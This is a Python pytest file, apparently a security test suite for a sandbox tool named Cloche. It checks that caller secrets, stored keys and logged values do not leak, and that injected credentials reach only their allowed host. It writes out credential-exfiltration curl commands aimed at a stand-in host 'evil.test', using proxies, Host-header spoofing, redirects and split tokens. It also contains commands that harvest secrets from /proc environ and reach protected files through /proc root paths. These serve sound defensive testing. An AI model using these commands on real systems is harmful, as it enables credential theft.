"""Attacks on what is secret: the caller's environment, what Cloche keeps, and what it writes down.

Values are tokens that occur nowhere else; a test looks for them where they must not be, and then where they must.
"""

import os
import secrets
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from cloche.sdk import portal
from tests.security import glass
from tests.security import world as worlds
from tests.security.attacks import Case
from tests.security.world import Inmate, World

VARIABLES = (
    "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AZURE_CLIENT_SECRET", "GOOGLE_APPLICATION_CREDENTIALS", "GITHUB_TOKEN", "GH_TOKEN",
    "GITLAB_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "GEMINI_API_KEY", "HF_TOKEN", "NPM_TOKEN", "PYPI_TOKEN", "DATABASE_URL",
    "PGPASSWORD", "SSH_AUTH_SOCK", "GPG_AGENT_INFO", "DBUS_SESSION_BUS_ADDRESS", "XAUTHORITY", "KUBECONFIG", "DOCKER_HOST", "CLOCHE_API_KEY",
    "HTTPS_PROXY", "PIP_INDEX_URL", "NODE_AUTH_TOKEN", "VAULT_TOKEN", "SLACK_TOKEN", "STRIPE_SECRET_KEY", "LD_PRELOAD", "BASH_ENV",
)  # fmt: skip
KEPT = (
    "state.db",
    "keys/audit.key",
    "keys/planted.key",
    "secrets.json",
    "audit/manifest.jsonl",
    "sandboxes/x/log",
    "cloche.sock",
)
WRITTEN = (
    "environment of the sandbox",
    "environment of a command",
    "input",
    "output",
    "file from outside",
    "code",
    "password argument",
)

CASES = [
    *(Case(f"variable {name}", "env secrets", name, name) for name in VARIABLES),
    *(Case(f"state {name}", "env secrets", name, f"own/{name.replace('/', '_')}") for name in KEPT),
    *(Case(f"written down: {what}", "env secrets", what, what) for what in WRITTEN),
]

# The placeholder is $T, bound to https://good.test in the field Authorization. $A is that field, filled as it should be.
USE = 'curl -sS -m 15 -H "$A" https://good.test/TOKEN'
MISUSES = {
    "to another host": 'curl -sSk -m 15 -H "$A" https://evil.test/TOKEN',
    "to another host, captured": 'env -i curl -sSk -m 15 -H "$A" https://evil.test/TOKEN',
    "to another host, by socks": 'curl -sSk -m 15 -x socks5h://127.0.0.1:3128 -H "$A" https://evil.test/TOKEN',
    "to another host, in plain": 'curl -sS -m 15 -H "$A" http://evil.test/TOKEN',
    "in plain to its own host": 'curl -sS -m 15 -H "$A" http://good.test/TOKEN',
    "in plain, captured": 'env -i curl -sS -m 15 -H "$A" http://good.test/TOKEN',
    "on another port": 'curl -sSk -m 15 -H "$A" https://good.test:8443/TOKEN',
    "in another field": 'curl -sS -m 15 -H "X-Notes: $T" https://good.test/TOKEN',
    "in a cookie": 'curl -sS -m 15 -b "a=$T" https://good.test/TOKEN',
    "in the agent's name": 'curl -sS -m 15 -A "$T" https://good.test/TOKEN',
    "in the query": 'curl -sS -m 15 "https://good.test/TOKEN?a=$T"',
    "in the path": 'curl -sS -m 15 "https://good.test/TOKEN/$T"',
    "in the body": 'curl -sS -m 15 -d "a=$T" https://good.test/TOKEN',
    "in a form": 'curl -sS -m 15 -F "a=$T" https://good.test/TOKEN',
    "with a host field of another": "curl -sSk -m 15 -H 'Host: evil.test' -H \"$A\" https://good.test/TOKEN",
    "with the name of another": 'curl -sSk -m 15 --connect-to evil.test:443:good.test:443 -H "$A" https://evil.test/TOKEN',
    "after a redirection": 'curl -sSkL -m 15 --location-trusted -H "$A" https://good.test/redirect/https://evil.test/TOKEN',
    "in halves": 'curl -sS -m 15 -H "Authorization: Bearer ${T%????}" -H "X-Rest: ${T#????}" https://good.test/TOKEN',
}
ECHOES = {
    "an echo": 'curl -sS -m 15 -H "$A" https://good.test/echo/TOKEN',
    "an echo in a head": 'curl -sSi -m 15 -H "$A" https://good.test/echo-head/TOKEN',
    "an echo in chunks": 'curl -sS -m 15 -H "$A" https://good.test/echo-chunks/TOKEN',
    "an echo, captured": 'env -i curl -sS -m 15 --cacert $SSL_CERT_FILE -H "$A" https://good.test/echo/TOKEN',
}
CREDENTIAL_CASES = [
    *(Case(f"credential {name}", "credentials", command, USE) for name, command in MISUSES.items()),
    *(Case(f"credential by {name}", "credentials", command, USE) for name, command in ECHOES.items()),
]

LOOK = (
    "env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n';"
    "grep -rhas token- /home /tmp /workspace /run /var /etc /dev/shm 2>/dev/null; set; export -p"
)


class Environment(NamedTuple):
    tokens: dict[str, str]
    unasked: str
    given: str


@pytest.fixture(scope="module")
def environment() -> Environment:
    """What a sandbox sees of a caller with secrets, and what one that was given them sees."""
    tokens = {name: f"token-{secrets.token_hex(8)}" for name in VARIABLES}
    harmless = {
        name: value
        for name, value in tokens.items()
        if name not in ("LD_PRELOAD", "BASH_ENV", "CLOCHE_API_KEY")
    }
    with pytest.MonkeyPatch.context() as patch:
        for name, value in harmless.items():
            patch.setenv(name, value)
        with glass.box() as box:
            unasked = (
                box.out(LOOK, output_limit=1 << 22)
                + box.report("print(json.dumps(dict(os.environ)))").__repr__()
            )
        with glass.box(env=tokens) as box:
            given = box.exec("env", output_limit=1 << 22).stdout
    return Environment(tokens, unasked, given)


@pytest.mark.parametrize("name", VARIABLES)
def test_a_variable_of_the_caller_does_not_enter_unless_it_is_given(
    name: str, environment: Environment
) -> None:
    assert environment.tokens[name] not in environment.unasked
    assert f"{name}={environment.tokens[name]}" in environment.given


@pytest.mark.parametrize("name", KEPT)
def test_what_cloche_keeps_is_out_of_reach(name: str, state_directory: Path, shared: glass.Box) -> None:
    token = f"token-{secrets.token_hex(8)}"
    place = state_directory / name
    planted = not place.exists() and name != "cloche.sock"
    if planted:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(token)
    elif place.is_file():
        token = place.read_bytes()[:40].hex()
    try:
        ways = f'for p in \'\' /proc/self/root /proc/1/root /proc/1/cwd /proc/self/cwd/../../..; do cat "$p{place}" | od -An -tx1 | tr -d \' \\n\'; cat "$p{place}"; ls "$p{place}"; done'
        shown = shared.exec(ways).stdout
        assert shown == ""
        own = f"/tmp/own/{name.replace('/', '_')}"
        shared.exec("mkdir -p /tmp/own")
        shared.write(own, token)
        assert shared.exec(["cat", own]).stdout == token
    finally:
        if planted:
            place.unlink()


class Records(NamedTuple):
    tokens: dict[str, str]
    seen: dict[str, str]
    kept: bytes


@pytest.fixture(scope="module")
def records(state_directory: Path) -> Records:
    """Secrets handed to a sandbox in every way there is; what its programs saw, and all that Cloche wrote down meanwhile."""
    tokens = {what: f"token{secrets.token_hex(8)}" for what in WRITTEN}
    made = glass.Box(env={"A": tokens["environment of the sandbox"]}, name=f"r{secrets.token_hex(4)}")
    try:
        seen = {
            "environment of the sandbox": made.out("echo $A"),
            "environment of a command": made.out("echo $B", env={"B": tokens["environment of a command"]}),
            "input": made.out(["cat"], stdin=tokens["input"].encode()),
        }
        made.write("/tmp/parts", "\n".join(tokens["output"]))
        seen["output"] = made.out("tr -d '\\n' < /tmp/parts")
        made.write("/tmp/secret", tokens["file from outside"])
        seen["file from outside"] = made.out("cat /tmp/secret")
        seen["code"] = str(
            portal.run(made.handle.run_code(f"api_key = {tokens['code']!r}; print(api_key)")).stdout
        )
        seen["password argument"] = made.out(["echo", f"--password={tokens['password argument']}"])
        portal.run(made.handle.events())  # the journal is written
        # Output is kept, for a while, by design: in memory, or in a file without a name. Both are none of these.
        kept = b"".join(
            path.read_bytes()
            for path in sorted(state_directory.rglob("*"))
            if path.is_file() and path.suffix in (".db", ".db-wal", ".jsonl", ".open", ".log", ".json")
        )
    finally:
        made.delete()
    return Records(tokens, seen, kept)


@pytest.mark.parametrize("what", WRITTEN)
def test_a_secret_that_a_program_is_given_is_not_written_down(what: str, records: Records) -> None:
    assert records.tokens[what].encode() not in records.kept
    assert records.tokens[what] in records.seen[what]
    assert b"started" in records.kept  # there was something to find it in


def test_the_caller_s_environment_is_not_in_the_engine_s_other_processes(shared: glass.Box) -> None:
    """The launcher and its guests start from nothing: even a taken-over one holds no variable of the caller."""
    token = f"token-{secrets.token_hex(8)}"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OPENAI_API_KEY", token)
        with glass.box() as box:
            assert box.works()
            found = []
            for entry in Path("/proc").glob("[0-9]*"):
                try:
                    name = (entry / "comm").read_text()
                    if name.startswith("cloche-") and token.encode() in (entry / "environ").read_bytes():
                        found.append(name)
                except OSError:
                    continue
    assert found == []
    assert os.environ.get("OPENAI_API_KEY") != token


# ── credentials that are used and never seen ───────────────────────────────────────────────────────

VALUE = f"v4lue-{secrets.token_hex(12)}"
SET = 'T=$GITHUB_TOKEN; A="Authorization: Bearer $T"; '


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    with worlds.opened() as made:
        made.cloche(
            "secret",
            "set",
            "github",
            "--host",
            "good.test:443",
            "--env",
            "GITHUB_TOKEN",
            stdin=VALUE.encode(),
        )
        yield made


@pytest.fixture(scope="module")
def user(world: World) -> Iterator[Inmate]:
    """A sandbox that may use the secret, and may speak to a host that may not have it."""
    made = world.box(allow=["good.test", "evil.test"], secrets=["github"])
    yield made
    made.delete()


def noted(world: World, before: int) -> bytes:
    """What servers got since then; a request for a redirection is a proper use."""
    return b"".join(seen.first for seen in world.reached[before:] if b" /redirect/" not in seen.first)


@pytest.mark.root
@pytest.mark.parametrize("case", CREDENTIAL_CASES, ids=[case.id for case in CREDENTIAL_CASES])
def test_a_credential_goes_to_its_host_in_its_field_and_nowhere_else(
    case: Case, user: Inmate, world: World
) -> None:
    token = secrets.token_hex(8)
    before = len(world.reached)
    tried = user.exec(SET + case.forbidden.replace("TOKEN", token))
    assert VALUE not in tried.stdout + tried.stderr
    if case.id.startswith("credential by"):
        assert VALUE.encode() in noted(world, before), (
            tried.stdout,
            tried.stderr,
        )  # it was there to be echoed
    else:
        assert VALUE.encode() not in noted(world, before)
    before = len(world.reached)
    used = user.exec(SET + case.permitted.replace("TOKEN", token))
    assert f"Authorization: Bearer {VALUE}".encode() in noted(world, before), (used.stdout, used.stderr)
    assert VALUE not in used.stdout + used.stderr


@pytest.mark.root
def test_a_stolen_placeholder_is_worth_nothing(user: Inmate, world: World) -> None:
    placeholder = user.out("printf %s $GITHUB_TOKEN")
    assert placeholder
    assert VALUE not in placeholder
    thief = world.box(allow=["good.test"])
    try:
        before = len(world.reached)
        thief.exec(f"curl -sSk -m 15 -H 'Authorization: Bearer {placeholder}' https://good.test/stolen")
        assert VALUE.encode() not in noted(world, before)
        assert b"/stolen" in noted(world, before)  # it got there, and had nothing to show
    finally:
        thief.delete()


@pytest.mark.root
def test_the_value_is_nowhere_inside_and_nowhere_written_down(user: Inmate, world: World) -> None:
    shown = user.exec(LOOK.replace("token-", VALUE[:8]), output_limit=1 << 22)
    assert VALUE not in shown.stdout + shown.stderr
    assert f"/{VALUE[-4:]}" in user.exec(SET + USE.replace("TOKEN", VALUE[-4:])).stdout
    events = portal.run(user.handle.events())
    assert "github" in repr([event for event in events if event["kind"] == "credential_used"])
    for path in world.state.rglob("*"):
        if path.is_file() and path.stat().st_size < 1 << 26:
            assert VALUE.encode() not in path.read_bytes(), path
